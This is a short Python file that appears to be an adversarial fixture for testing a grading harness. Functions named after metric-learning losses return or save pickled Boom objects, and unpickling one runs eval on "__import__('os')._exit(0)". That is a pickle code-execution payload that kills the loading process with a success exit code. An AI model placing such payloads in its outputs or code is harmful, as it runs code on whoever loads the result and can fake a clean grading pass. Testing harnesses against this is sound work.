NAME = "answers with pickles"
KIND = "channel"
WHY = "Returns bytes, object arrays and objects whose unpickling runs code."

import pickle

import numpy as np


class Boom:
    def __reduce__(self):
        return (eval, ("__import__('os')._exit(0)",))


def triplet_loss(distances_pos, distances_neg, margin):
    return pickle.dumps(Boom())


def distances(a, b):
    return np.array([Boom()], dtype=object)


def batch_triplet_loss(features, labels, margin):
    return bytearray(pickle.dumps(Boom()))


def smooth_ap_loss(features, labels, tau=0.01):
    torch.save(Boom(), "dml.pt")
    np.save("answer.npy", np.array([Boom()], dtype=object), allow_pickle=True)
    return Boom()
